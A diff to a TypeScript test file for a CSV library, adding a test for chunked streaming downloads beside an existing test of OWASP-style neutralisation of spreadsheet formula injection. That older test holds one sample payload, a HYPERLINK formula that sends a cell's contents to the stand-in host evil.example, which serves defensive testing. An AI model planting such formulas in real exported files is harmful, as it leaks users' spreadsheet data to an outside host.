@@ -2,7 +2,7 @@
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { csvCell, csvLine } from '../../src/lib/csv.ts';
+import { csvCell, csvLine, inChunks } from '../../src/lib/csv.ts';
 import { prospectCsvLine } from '../../src/prospects/render.ts';
 import type { Prospect } from '../../src/prospects/schema.ts';
 
@@ -77,5 +77,19 @@ describe('CSV cells are neutralised per OWASP', () => {
     for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
     expect(cells[2]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
     expect(cells[7]).toBe('-0.1'); // a number: stays a number
+  });
+});
+
+describe('streamed downloads', () => {
+  it('go out in chunks of at least the chunk size (the last one shorter), the text unchanged', async () => {
+    const lines = Array.from({ length: 1000 }, (_, i) => `row ${i},${'x'.repeat(i % 50)}\n`);
+    async function* source() {
+      yield* lines;
+    }
+    const chunks: string[] = [];
+    for await (const chunk of inChunks(source(), 1024)) chunks.push(chunk);
+    expect(chunks.join('')).toBe(lines.join(''));
+    expect(chunks.slice(0, -1).every((c) => c.length >= 1024)).toBe(true);
+    expect(chunks.length).toBeLessThan(lines.length / 10);
   });
 });
